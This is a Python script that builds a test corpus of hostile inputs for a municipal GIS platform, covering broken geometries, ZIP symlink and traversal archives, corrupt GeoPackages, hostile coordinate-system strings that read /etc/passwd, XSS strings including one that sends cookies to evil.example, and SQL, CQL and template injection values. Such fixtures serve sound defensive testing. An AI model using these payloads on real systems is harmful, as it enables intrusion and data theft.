"""How the hostile-input corpus was made (run once from the repository root; the outputs are
committed and the script rebuilds them byte for byte). Every file is an attack or an accident
that reaches a municipal platform sooner or later; README.md beside this script says which."""

import gzip
import io
import json
import math
import sqlite3
import stat
import tempfile
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[2]
STAMP = (2026, 1, 1, 0, 0, 0)  # fixed member times: the same bytes on every run


def zip_write(name: str, members: list[tuple[zipfile.ZipInfo | str, bytes]]) -> None:
    with zipfile.ZipFile(HERE / name, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, data in members:
            info = member if isinstance(member, zipfile.ZipInfo) else zipfile.ZipInfo(member, STAMP)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)


def ring(cx: float, cy: float, r: float, n: int) -> list[list[float]]:
    points = [
        [
            round(cx + r * math.cos(2 * math.pi * i / n), 7),
            round(cy + r * math.sin(2 * math.pi * i / n), 7),
        ]
        for i in range(n)
    ]
    return [*points, points[0]]


def feature(geometry, **properties) -> dict:
    return {"type": "Feature", "geometry": geometry, "properties": properties}


# --- Geometries (GeoJSON geometry objects, one per key) -------------------------------------
# Coordinates lie in Ramallah (35.20 E, 31.90 N) unless the case is about coordinates.
square = [
    [35.2000, 31.9000],
    [35.2010, 31.9000],
    [35.2010, 31.9010],
    [35.2000, 31.9010],
    [35.2000, 31.9000],
]
geometries = {
    "bowtie": {
        "type": "Polygon",
        "coordinates": [
            [[35.2, 31.9], [35.201, 31.901], [35.201, 31.9], [35.2, 31.901], [35.2, 31.9]]
        ],
    },
    "unclosed_ring": {"type": "Polygon", "coordinates": [square[:4]]},
    "two_point_ring": {"type": "Polygon", "coordinates": [[[35.2, 31.9], [35.201, 31.9]]]},
    "empty_polygon": {"type": "Polygon", "coordinates": []},
    "latitude_out_of_range": {"type": "Point", "coordinates": [35.2, 231.9]},
    "longitude_out_of_range": {"type": "Point", "coordinates": [1035.2, 31.9]},
    "string_coordinates": {
        "type": "Point",
        "coordinates": ["35.2", "31.9; DROP TABLE parcels_parcel"],
    },
    "unknown_type": {"type": "Hexagon", "coordinates": [35.2, 31.9]},
    "missing_coordinates": {"type": "Polygon"},
    "null_geometry": None,
    "point_with_100_dimensions": {"type": "Point", "coordinates": [35.2, 31.9] + [0.0] * 98},
    "far_away_in_the_atlantic": {"type": "Polygon", "coordinates": [ring(-30.0, 30.0, 0.001, 8)]},
    "spike_self_touching": {
        "type": "Polygon",
        "coordinates": [
            [
                [35.2, 31.9],
                [35.201, 31.9],
                [35.2005, 31.9005],
                [35.201, 31.901],
                [35.2005, 31.9005],
                [35.2, 31.901],
                [35.2, 31.9],
            ]
        ],
    },
}
(HERE / "geometries.json").write_text(json.dumps(geometries, indent=1) + "\n")

# A polygon of 25,000 vertices: more than an edited feature may have (20,000), gzipped.
huge = {"type": "Polygon", "coordinates": [ring(35.2, 31.9, 0.002, 25_000)]}
with gzip.GzipFile(HERE / "huge_polygon.json.gz", "wb", mtime=0) as out:
    out.write(json.dumps(huge).encode())

# JSON nested 10,000 arrays deep: a recursive parser that follows it overflows its stack.
(HERE / "deeply_nested.json").write_text(
    '{"type": "Point", "coordinates": ' + "[" * 10_000 + "]" * 10_000 + "}\n"
)

# JSON that Python's parser takes and no standard allows: NaN and Infinity as numbers.
(HERE / "nan_coordinates.json").write_text('{"type": "Point", "coordinates": [NaN, Infinity]}\n')

# --- Coordinate reference systems, as a client might name them -------------------------------
crs = {
    "proj_string_reading_a_file": "+proj=longlat +datum=WGS84 +nadgrids=@/etc/passwd +no_defs",
    "proj_init_file": "+init=/etc/passwd:4326",
    "wkt_with_grid_file": 'GEOGCRS["x",BASEGEOGCRS["WGS 84",DATUM["World Geodetic System 1984",ELLIPSOID["WGS 84",6378137,298.257223563]]],DERIVINGCONVERSION["hostile",METHOD["NTv2",ID["EPSG",9615]],PARAMETERFILE["Latitude and longitude difference file","/etc/shadow"]],CS[ellipsoidal,2],AXIS["lat",north],AXIS["lon",east],UNIT["degree",0.0174532925199433]]',
    "network_url": "http://203.0.113.7/crs/4326.wkt",
    "file_url": "file:///etc/passwd",
    "epsg_not_allowed": "EPSG:3035",
    "epsg_out_of_range": "EPSG:9999999",
    "epsg_negative": "EPSG:-4326",
    "epsg_sql": "EPSG:4326' OR '1'='1",
    "ogc_uri_other_host": "http://evil.example/def/crs/EPSG/0/4326",
    "urn_with_path": "urn:ogc:def:crs:EPSG::../../etc/passwd",
    "empty": "",
}
(HERE / "crs.json").write_text(json.dumps(crs, indent=1) + "\n")

# A GeoJSON file whose "crs" member names a PROJ string that reads a file.
(HERE / "geojson_hostile_crs.geojson").write_text(
    json.dumps(
        {
            "type": "FeatureCollection",
            "crs": {"type": "name", "properties": {"name": crs["proj_string_reading_a_file"]}},
            "features": [feature({"type": "Point", "coordinates": [35.2, 31.9]}, name="lamp")],
        }
    )
    + "\n"
)

# --- Archives ------------------------------------------------------------------------------
points = json.dumps(
    {
        "type": "FeatureCollection",
        "features": [feature({"type": "Point", "coordinates": [35.2, 31.9]}, name="lamp")],
    }
).encode()
# A member that is a symbolic link to /etc/passwd (Unix mode bits in external_attr).
link = zipfile.ZipInfo("lamps.geojson", STAMP)
link.create_system = 3
link.external_attr = (stat.S_IFLNK | 0o777) << 16
zip_write("symlink_member.zip", [(link, b"/etc/passwd")])
# An absolute member path and a Windows-style traversal.
zip_write(
    "absolute_member.zip",
    [("/tmp/hostile/lamps.geojson", points), ("..\\..\\lamps.geojson", points)],
)
# A ZIP inside a ZIP inside a ZIP: nesting is not unpacked.
inner = io.BytesIO()
with zipfile.ZipFile(inner, "w") as z:
    z.writestr(zipfile.ZipInfo("lamps.geojson", STAMP), points)
middle = io.BytesIO()
with zipfile.ZipFile(middle, "w") as z:
    z.writestr(zipfile.ZipInfo("inner.zip", STAMP), inner.getvalue())
zip_write("nested.zip", [("middle.zip", middle.getvalue())])
# 20,000 empty members, over the member limit (10,000); gzipped for the repository, the tests
# unpack the ZIP before they upload it.
many = io.BytesIO()
with zipfile.ZipFile(many, "w") as z:
    for i in range(20_000):
        z.writestr(zipfile.ZipInfo(f"m{i:05d}.txt", STAMP), b"")
with gzip.GzipFile(HERE / "many_members.zip.gz", "wb", mtime=0) as out:
    out.write(many.getvalue())
# A ZIP whose central directory is cut off.
whole = io.BytesIO()
with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr(zipfile.ZipInfo("lamps.geojson", STAMP), points * 50)
(HERE / "truncated.zip").write_bytes(whole.getvalue()[: len(whole.getvalue()) // 2])
# Text with a .zip name.
(HERE / "not_a_zip.zip").write_text("this is not an archive\n")
# A Shapefile whose .prj is a PROJ string that reads a file.
shp = io.BytesIO()
import geopandas as gpd  # noqa: E402  (only this part needs it)
from shapely.geometry import Point  # noqa: E402

with tempfile.TemporaryDirectory() as tmp:
    frame = gpd.GeoDataFrame({"name": ["lamp"]}, geometry=[Point(35.2, 31.9)], crs=4326)
    frame.to_file(Path(tmp) / "lamps.shp", engine="pyogrio")
    (Path(tmp) / "lamps.prj").write_text(crs["proj_string_reading_a_file"])
    zip_write(
        "shapefile_hostile_prj.zip", [(p.name, p.read_bytes()) for p in sorted(Path(tmp).iterdir())]
    )
    # The same Shapefile with its .dbf cut in half.
    parts = {p.suffix: p.read_bytes() for p in Path(tmp).iterdir()}
    parts[".prj"] = (
        b'GEOGCS["WGS 84",DATUM["WGS_1984",SPHEROID["WGS 84",6378137,298.257223563]],PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]]'
    )
    parts[".shp"] = parts[".shp"][:60]
    zip_write("shapefile_truncated_shp.zip", [(f"lamps{s}", parts[s]) for s in sorted(parts)])

# --- GeoPackages -----------------------------------------------------------------------------
# Random bytes after a valid SQLite header: "file is not a database" to SQLite.
(HERE / "corrupt.gpkg").write_bytes(b"SQLite format 3\x00" + bytes(range(256)) * 16)
# A SQLite database that is not a GeoPackage (no gpkg_contents).
with tempfile.TemporaryDirectory() as tmp:
    db = sqlite3.connect(Path(tmp) / "x.gpkg")
    db.execute("CREATE TABLE parcels (id INTEGER PRIMARY KEY, owner TEXT)")
    db.execute("INSERT INTO parcels (owner) VALUES ('Robert''); DROP TABLE parcels_parcel;--')")
    db.commit()
    db.close()
    (HERE / "sqlite_not_geopackage.gpkg").write_bytes((Path(tmp) / "x.gpkg").read_bytes())

# --- CSVs in encodings nobody asked for ------------------------------------------------------
rows = "name,lon,lat\nمستشفى رام الله,35.2,31.9\nصيدلية,35.201,31.901\n"
(HERE / "utf16.csv").write_bytes(rows.encode("utf-16"))
(HERE / "binary_garbage.csv").write_bytes(bytes(range(256)) * 8)
(HERE / "nul_bytes.csv").write_bytes(b"name,lon,lat\nlamp\x00\x00,35.2,31.9\n")

# --- Text ------------------------------------------------------------------------------------
texts = {
    "over_long": "ش" * 10_001,
    "script_tag": "<script>alert(document.cookie)</script>",
    "image_onerror": "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">",
    "svg_onload": "<svg/onload=alert(1)>",
    "iframe": "<iframe src=javascript:alert(1)>",
    "nul_byte": "Main Street\x00; DROP TABLE addressing_street",
    "control_characters": "Main\x1b[31mStreet\x07",
}
(HERE / "texts.json").write_text(json.dumps(texts, ensure_ascii=False, indent=1) + "\n")

# --- Injection attempts, for every filter parameter ------------------------------------------
injections = {
    "sql_tautology": "1' OR '1'='1",
    "sql_union": "0 UNION SELECT username, password FROM auth_user --",
    "sql_stacked": "1; DROP TABLE parcels_parcel; --",
    "sql_comment": "1/**/OR/**/1=1",
    "sql_sleep": "1 AND pg_sleep(10) IS NULL",
    "cql_tautology": "name = 'x' OR 1=1",
    "cql_function": "exec(java.lang.Runtime.getRuntime(),'touch /tmp/pwned')",
    "cql_xpath": "strSubstring(\"name\", 0, 1) = 'a'",
    "cql_subquery": "id IN (SELECT id FROM auth_user)",
    "cql_property_path": "owner/name = 'x'",
    "template": "{{7*7}}${7*7}<%= 7*7 %>",
    "path": "../../../../etc/passwd",
}
(HERE / "injections.json").write_text(json.dumps(injections, indent=1) + "\n")
